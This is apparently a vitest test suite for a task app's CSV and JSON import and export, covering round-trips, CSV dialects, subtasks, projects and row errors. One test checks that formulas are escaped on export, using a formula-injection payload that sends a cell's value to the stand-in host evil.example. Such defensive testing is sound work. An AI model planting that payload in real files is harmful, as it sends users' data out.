import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { csvList } from '../../../src/domain/transfers/csv.ts';
import type { Priority } from '../../../src/generated/prisma/enums.ts';
import { insertProject } from '../../support/insert-project.ts';
import {
  CompleteTaskDocument,
  CreateRecurrenceDocument,
  CreateTaskDocument,
  type TaskDueInput,
  TasksDocument,
  UpdateTaskDocument,
} from '../../support/operations.ts';
import { createTestApp, type Person, type Tenant, type TestApp } from '../../support/test-app.ts';
import { exportNow, importNow } from '../../support/transfer-fixture.ts';

let test_: TestApp;
let tenant: Tenant;
let anna: Person;
beforeAll(async () => {
  test_ = await createTestApp();
  tenant = await test_.tenant();
  anna = await tenant.person('anna');
});
afterAll(() => test_[Symbol.asyncDispose]());

const csv = (content: string | Buffer, more: object = {}) =>
  importNow(test_, anna, { format: 'CSV', content, ...more });
const json = (content: unknown) => importNow(test_, anna, { format: 'JSON', content: JSON.stringify(content) });

async function tasksOf(person: Person, filter: object = {}) {
  const orderBy = { field: 'CREATED', direction: 'ASC' } as const;
  return (await person.run(TasksDocument, { filter, orderBy, first: 200 })).tasks.nodes;
}

const faults = (state: Awaited<ReturnType<typeof csv>>) =>
  state.rowErrors.nodes.map(({ line, faults }) => [line, ...faults.map(({ column }) => column)]);

/** What begins a formula, ends a cell or a row, or is not ASCII. */
const character = fc.constantFrom(...'=＝-＠@\t\r\n",;|\' ab&ß語👩‍💻', '\r\n', '\u00a0', '\ufeff', "''=", ';"=');
const text = (maxLength: number) => fc.string({ unit: character, maxLength });
const isVisible = (value: string) => /[^\s\p{C}\p{Z}]/u.test(value);
const title = text(60).filter(isVisible);
const zone = fc.constantFrom('UTC', 'Europe/Berlin', 'America/New_York', 'Asia/Kathmandu', 'Australia/Lord_Howe');
const moment = fc.date({ min: new Date('2000-01-01'), max: new Date('2090-01-01'), noInvalidDate: true });
const due = fc.record({ moment, timeZone: zone, isDay: fc.boolean() });
const task = fc.record({
  title,
  notes: fc.option(text(200).filter((value) => value !== '')),
  priority: fc.constantFrom<Priority[]>('LOW', 'MEDIUM', 'HIGH', 'URGENT'),
  tags: fc.uniqueArray(text(10).filter(isVisible), { maxLength: 20 }),
  due: fc.option(due),
  isDone: fc.boolean(),
});
type Wanted = typeof task extends fc.Arbitrary<infer T> ? T : never;

function dueInput({ moment, timeZone, isDay }: NonNullable<Wanted['due']>): TaskDueInput {
  if (isDay) return { dateInZone: { date: moment.toISOString().slice(0, 10), timeZone } };
  return { atInZone: { at: moment.toISOString(), timeZone } };
}

async function make(person: Person, { isDone, due, ...fields }: Wanted): Promise<void> {
  const input = { ...fields, due: due && dueInput(due) };
  const { createTask } = await person.run(CreateTaskDocument, { input });
  if (isDone) await person.run(CompleteTaskDocument, { id: createTask.task.id });
}

describe('what is exported and imported again', () => {
  test.each(['CSV', 'JSON'] as const)('is equal, whatever the texts: %s', async (format) => {
    const content = (tasks: Awaited<ReturnType<typeof tasksOf>>) =>
      tasks.map(({ title, notes, status, priority, tags, due, completedAt }) => {
        return { title, notes, status, priority, tags, due, completedAt };
      });
    await fc.assert(
      fc.asyncProperty(fc.array(task, { minLength: 1, maxLength: 20 }), async (wanted) => {
        const { alice: from } = await test_.tenant();
        const { alice: to } = await test_.tenant();
        for (const one of wanted) await make(from, one);
        const file = await exportNow(test_, from, { format });
        const state = await importNow(test_, to, { format, content: file });
        expect(state).toMatchObject({ status: 'SUCCEEDED', failed: 0, done: wanted.length });
        const made = content(await tasksOf(to));
        expect(made).toEqual(content(await tasksOf(from)));
      }),
      { numRuns: 8 },
    );
  });
});

describe('a CSV', () => {
  test('of every column', async () => {
    const bob = await tenant.person('bob');
    const { rows } = await test_.app.db.query('SELECT email FROM "user" WHERE id = $1', [bob.viewer.userId]);
    const email = rows[0].email as string;
    await csv(
      [
        'Title,NOTES,status,priority,tags,due,due_time_zone,Assigned To,completed at,created at,Estimate',
        `of all one,"first, second",active,urgent,"Home, ""a, b""",2026-03-01,Europe/Berlin,${email.toUpperCase()},,2001-01-01,5`,
        'of all two,,done,,,2026-03-01T09:30,America/New_York,,2026-02-03T10:00:00Z,,',
        'of all three,,,low,,2026-03-01 09:30,,,2026-02-03,,',
        'of all four,,Completed,,,2026-03-01T09:30:00+09:00,,,,,',
      ].join('\n'),
      { timeZone: 'Asia/Tokyo' },
    ).then((state) => {
      expect(state.ignoredColumns).toEqual(['created at', 'Estimate']);
      expect(faults(state)).toEqual([]);
    });
    const due = (at: string, timeZone: string) => ({ date: null, at, timeZone });
    expect(await tasksOf(anna, { text: 'of all' })).toMatchObject([
      {
        notes: 'first, second',
        status: 'ACTIVE',
        priority: 'URGENT',
        tags: ['home', 'a, b'],
        due: { date: '2026-03-01', at: null, timeZone: 'Europe/Berlin' },
      },
      {
        status: 'COMPLETED',
        priority: 'MEDIUM',
        due: due('2026-03-01T14:30:00.000Z', 'America/New_York'),
        completedAt: '2026-02-03T10:00:00.000Z',
      },
      {
        status: 'COMPLETED',
        priority: 'LOW',
        due: due('2026-03-01T00:30:00.000Z', 'Asia/Tokyo'),
        completedAt: '2026-02-02T15:00:00.000Z',
      },
      { status: 'COMPLETED', due: due('2026-03-01T00:30:00.000Z', 'Asia/Tokyo') },
    ]);
    expect(await tasksOf(bob)).toMatchObject([{ title: 'of all one' }]);
  });

  test.each([
    ['lines that end in CRLF', 'title,notes\r\nform crlf,"a\r\nb"\r\n', 'form crlf', 'a\r\nb'],
    ['lines that end in LF, and none at the end', 'title,notes\nbare lines,"a\nb"', 'bare lines', 'a\nb'],
    ['a byte order mark', '\ufefftitle,notes\r\nform bom,b\r\n', 'form bom', 'b'],
    ['semicolons', 'title;notes\r\nform semi;"a;b, c"\r\n', 'form semi', 'a;b, c'],
    ['tabs', 'title\tnotes\nform tab\tb\n', 'form tab', 'b'],
    ['empty lines', '\n\ntitle,notes\n\n\nform empty,b\n\n', 'form empty', 'b'],
    ['quotes within a value', 'title,notes\nform "quoted",5" wide\n', 'form "quoted"', '5" wide'],
    ['a formula that a spreadsheet guarded', `title,notes\nform guarded,'=SUM(A1)\n`, 'form guarded', '=SUM(A1)'],
  ])('with %s', async (_, content, wanted, notes) => {
    expect(await csv(content)).toMatchObject({ status: 'SUCCEEDED', total: 1, failed: 0 });
    expect(await tasksOf(anna, { text: wanted })).toMatchObject([{ title: wanted, notes }]);
  });

  test('has no cell that a spreadsheet would run, and a header', async () => {
    const { alice } = await test_.tenant();
    const notes = '=HYPERLINK("http://evil.example/?x="&A1)';
    for (const title of ['+1', '-1', '@SUM(1)', "'=quoted", '＝1', 'a;=1+1', 'plain']) {
      await alice.run(CreateTaskDocument, { input: { title, notes, tags: ['=tag'] } });
    }
    const lines = (await exportNow(test_, alice, { format: 'CSV' })).split('\r\n');
    const header =
      'id,parent,title,notes,status,priority,tags,due,dueTimeZone,assignee,project,projectId,completedAt,recurrence,createdAt,updatedAt';
    expect(lines[0]).toBe(`"${header.replaceAll(',', '","')}"`);
    const titles = lines.slice(1, -1).map((line) => line.split('","')[2]);
    expect(titles).toEqual(["'+1", "'-1", "'@SUM(1)", "''=quoted", "'＝1", "a;'=1+1", 'plain']);
    for (const line of lines.slice(1, -1)) {
      expect(line).toContain(`"'=HYPERLINK(""http`);
      expect(line).toContain(`,"'=tag",`);
    }
  });

  test('of an earlier version is read as it was written, and a later one is exact', async () => {
    const names =
      'id,parent,title,notes,status,priority,tags,due,dueTimeZone,assignee,project,completedAt,recurrence,createdAt,updatedAt';
    const earlier = `${names}\r\n1,,earlier 1,'=1+1,,,,,,,,,,,\r\n2,,earlier 2,a;'=1+1,,,,,,,,,,,\r\n`;
    await csv(earlier);
    const notes = async (text: string) => (await tasksOf(anna, { text })).map(({ notes }) => notes);
    expect(await notes('earlier')).toEqual(['=1+1', "a;'=1+1"]);
    const file = await exportNow(test_, anna, { format: 'CSV', filter: { text: 'earlier' } });
    const { alice } = await test_.tenant();
    await importNow(test_, alice, { format: 'CSV', content: file });
    expect((await tasksOf(alice)).map(({ notes }) => notes)).toEqual(['=1+1', "a;'=1+1"]);
  });
});

test('a project goes by its name, if one sees it and it is the only one', async () => {
  const { app } = test_;
  const projectId = await insertProject(app, anna, { name: 'Shared' });
  for (const name of ['Twice', 'Twice']) await insertProject(app, anna, { name });
  await insertProject(app, await tenant.person('bob'), { name: 'Secret', isPrivate: true });
  await insertProject(app, anna, { name: 'Gone', archivedAt: new Date() });
  const state = await csv(
    'title,project\nin project 1,Shared\nin project 2,Secret\nin project 3,Twice\nin project 4,None\nin project 5,Gone\n',
  );
  expect(faults(state)).toEqual([
    [3, 'project'],
    [4, 'project'],
    [5, 'project'],
    [6, 'project'],
  ]);
  const filter = { projectId };
  expect(await tasksOf(anna, filter)).toMatchObject([{ title: 'in project 1' }]);
  const records = JSON.parse(await exportNow(test_, anna, { format: 'JSON', filter }));
  expect(records).toMatchObject([{ title: 'in project 1', project: 'Shared' }]);
});

test.each(['CSV', 'JSON'] as const)('projects of one name are told apart in an exported %s', async (format) => {
  const twins = await test_.tenant();
  const { alice } = twins;
  const ids = [
    await insertProject(test_.app, alice, { name: 'Twin' }),
    await insertProject(test_.app, alice, { name: 'Twin' }),
  ];
  for (const [index, projectId] of ids.entries()) {
    await alice.run(CreateTaskDocument, { input: { title: `in twin ${index}`, projectId } });
  }
  const state = await importNow(test_, alice, { format, content: await exportNow(test_, alice, { format }) });
  expect(state).toMatchObject({ done: 2, failed: 0 });
  for (const [index, projectId] of ids.entries()) {
    expect((await tasksOf(alice, { projectId })).map(({ title }) => title)).toEqual([
      `in twin ${index}`,
      `in twin ${index}`,
    ]);
  }
  const bare = await importNow(test_, alice, { format: 'CSV', content: 'title,project\nx,Twin\n' });
  expect(faults(bare)).toEqual([[2, 'project']]);
});

describe('subtasks', () => {
  const rows = (person: Person) =>
    test_.app.db.query<{ title: string; parent: string | null; status: string }>(
      `SELECT t.title, p.title AS parent, t.status FROM task t LEFT JOIN task p ON p.id = t."parentId"
       WHERE t."tenantId" = $1 ORDER BY t.id`,
      [person.viewer.tenantId],
    );

  test.each(['CSV', 'JSON'] as const)('stay with their parents, done or not, across steps: %s', async (format) => {
    const { alice: from } = await test_.tenant();
    const { alice: to } = await test_.tenant();
    const create = async (title: string, parentId?: string) =>
      (await from.run(CreateTaskDocument, { input: { title, parentId } })).createTask.task.id;
    const [open, done] = [await create('open'), await create('done')];
    for (const id of [await create('part of done', done), done]) await from.run(CompleteTaskDocument, { id });
    for (let n = 0; n < 200; n += 1) await create(`between ${n}`);
    await create('deeper', await create('part of open', open));
    await importNow(test_, to, { format, content: await exportNow(test_, from, { format }) });
    const { rows: made } = await rows(to);
    expect(made).toEqual((await rows(from)).rows);
    expect(made.filter(({ parent }) => parent !== null)).toHaveLength(3);
    expect((await test_.app.db.query('SELECT FROM transfer_row')).rows).toEqual([]);
  });

  test.each(['CSV', 'JSON'] as const)(
    'are below it again in %s when they are older than their parent',
    async (format) => {
      const [from, to] = [(await test_.tenant()).alice, (await test_.tenant()).alice];
      const older = (await from.run(CreateTaskDocument, { input: { title: 'older child' } })).createTask.task.id;
      const parentId = (await from.run(CreateTaskDocument, { input: { title: 'newer parent' } })).createTask.task.id;
      await from.run(UpdateTaskDocument, { input: { id: older, parentId } });
      await from.run(CompleteTaskDocument, { id: parentId, subtasks: 'LEAVE' });
      const state = await importNow(test_, to, { format, content: await exportNow(test_, from, { format }) });
      expect(faults(state)).toEqual([]);
      expect((await rows(to)).rows).toEqual((await rows(from)).rows);
    },
  );

  test('find their parent also in a row after them, and stand by themselves where there is none', async () => {
    const { alice } = await test_.tenant();
    const content = JSON.stringify([
      { id: 7, title: 'seven' },
      { id: 8, title: 'part', parentId: 7 },
      { title: 'early part of nine', parentId: 9 },
      { title: 'alone', parentId: 10 },
      { id: 'a', title: 'circle', parentId: 'b' },
      { id: 'b', title: 'round', parentId: 'a' },
      { id: 9, title: 'nine', status: 'DONE' },
      { title: 'open part of nine', parentId: 9 },
    ]);
    const state = await importNow(test_, alice, { format: 'JSON', content });
    expect((await rows(alice)).rows.map(({ title, parent }) => [title, parent])).toEqual([
      ['seven', null],
      ['part', 'seven'],
      ['early part of nine', 'nine'],
      ['alone', null],
      ['circle', null],
      ['round', 'circle'],
      ['nine', null],
      ['open part of nine', 'nine'],
    ]);
    expect(faults(state)).toEqual([]);
  });
});

test('a series is told by its rule', async () => {
  const { alice } = await test_.tenant();
  const input = { task: { title: 'again', due: { date: '2099-01-05' } }, preset: 'WEEKLY' } as const;
  await alice.run(CreateRecurrenceDocument, { input });
  const [record] = JSON.parse(await exportNow(test_, alice, { format: 'JSON' }));
  expect(record).toMatchObject({ title: 'again', recurrence: expect.stringContaining('FREQ=WEEKLY') });
});

describe('a bad row', () => {
  test('is told by line, column and reason, and skipped; the others become tasks', async () => {
    const tags = csvList(Array.from({ length: 21 }, (_, n) => `t${n}`));
    const rows = [
      'title,notes,status,priority,tags,due,dueTimeZone,assignee,completedAt',
      'row good 1,"two\r\nlines",,,,,,,',
      ',,,,,,,,',
      `${'x'.repeat(501)},,,,,,,,`,
      `row bad,,,,"${tags}",,,,`,
      'row bad,,,,,2026-02-30,,,',
      'row bad,,waiting,highest,,tomorrow,Mars/Base,nobody@example.test,',
      'row bad,,ACTIVE,,,,,,2026-01-01',
      'row bad,,DONE,,,,,,2999-01-01',
      'row bad,too,short',
      'row good 2,,,,,,,,',
    ];
    const state = await csv(rows.join('\r\n'));
    expect(state).toMatchObject({ status: 'SUCCEEDED', total: 10, done: 10, failed: 8 });
    expect(faults(state)).toEqual([
      [4, 'title'],
      [5, 'title'],
      [6, 'tags'],
      [7, 'due'],
      [8, 'dueTimeZone', 'status', 'assignee', 'priority'],
      [9, 'completedAt'],
      [10, 'completedAt'],
      [11, null],
    ]);
    const told = state.rowErrors.nodes.flatMap(({ faults }) => faults.map(({ message }) => message));
    expect(told).toEqual(
      expect.arrayContaining([
        'The title can have at most 500 characters.',
        'A task can have at most 20 tags.',
        'No member of the tenant has the e-mail address nobody@example.test.',
        'The row has 3 values, but there are 9 columns.',
      ]),
    );
    expect((await tasksOf(anna, { text: 'row' })).map((one) => one.title)).toEqual(['row good 1', 'row good 2']);
  });

  test.each(['9999-12-31', '9999-12-31T23:59', '0001-01-01', '0000-01-01', '2026-03-29T02:30', '12026-01-01'])(
    'of an odd date, %s, is imported or told, and the next one goes on',
    async (due) => {
      const state = await csv(`title,due,dueTimeZone\nodd date,${due},Europe/Berlin\neven date,2026-01-01,\n`);
      expect(state).toMatchObject({ status: 'SUCCEEDED', done: 2, total: 2 });
      expect(faults(state)).toEqual(state.failed === 0 ? [] : [[2, 'due']]);
    },
  );

  test('may quote what cannot be kept, or be very long', async () => {
    const header = `title,${'😀'.repeat(99)}x\u0000,assignee\n`;
    const state = await csv(`${header}quoting,,${'who?'.repeat(20_000)}\n`);
    expect(state).toMatchObject({ status: 'SUCCEEDED', failed: 1, ignoredColumns: ['😀'.repeat(50)] });
    expect(state.rowErrors.nodes[0]?.faults[0]?.message).toHaveLength(300);
    const odd = await csv(`title,x${'😀'.repeat(99)},\u0000\nquoting too,,\n`);
    expect(odd.ignoredColumns).toEqual([`x${'😀'.repeat(49)}\ufffd`, '\ufffd']);
  });

  test('of JSON is told by its number', async () => {
    const state = await json([
      { title: 'entry good', tags: ['a'], Extra: 1 },
      { title: true, tags: [1], notes: 'x\u0000y' },
      'text',
      { notes: 'half \ud800' },
    ]);
    expect(state).toMatchObject({ status: 'SUCCEEDED', total: 4, failed: 3, ignoredColumns: ['Extra'] });
    expect(faults(state)).toEqual([
      [2, 'title', 'tags', 'notes'],
      [3, null],
      [4, 'notes'],
    ]);
    expect(await tasksOf(anna, { text: 'entry good' })).toMatchObject([{ tags: ['a'] }]);
  });

  test('beyond the thousandth is counted', async () => {
    const state = await csv(`title\n${`${'y'.repeat(501)}\n`.repeat(1_101)}`);
    expect(state).toMatchObject({ status: 'SUCCEEDED', done: 1_101, failed: 1_101 });
    const { rows } = await test_.app.db.query('SELECT FROM transfer_row_error');
    expect(rows.length).toBeGreaterThanOrEqual(1_000);
    expect(state.rowErrors.pageInfo.hasNextPage).toBe(true);
  });
});

describe('a file that cannot be read', () => {
  test.each([
    ['nothing', 'CSV', '', /The file is empty/],
    ['no title', 'CSV', 'name of it,notes\nunread 1,x\n', /The column title is required/],
    ['a quote that is never closed', 'CSV', 'title\nunread 2\n"unread 3', /quote that is not closed/],
    ['another encoding', 'CSV', Buffer.from('title\nunread caf\xe9\n', 'latin1'), /UTF-8/],
    ['JSON that breaks off', 'JSON', '[{"title":"unread 4"},{"title":"unr', /not a JSON array/],
    ['JSON that is no array', 'JSON', '{"title":"unread 5"}', /array of objects/],
    ['JSON with a character that cannot be kept', 'JSON', '[{"title":"unread 7"}\u0000', /not a JSON array/],
    ['a CSV that is said to be JSON', 'JSON', 'title\nunread 6\n', /array of objects/],
  ] as const)('makes nothing: %s', async (_, format, content, message) => {
    const state = await importNow(test_, anna, { format, content });
    expect(state).toMatchObject({ status: 'FAILED', done: 0, error: { code: 'INVALID_INPUT' } });
    expect(state.error?.message).toMatch(message);
    expect(await tasksOf(anna, { text: 'unread' })).toEqual([]);
  });
});
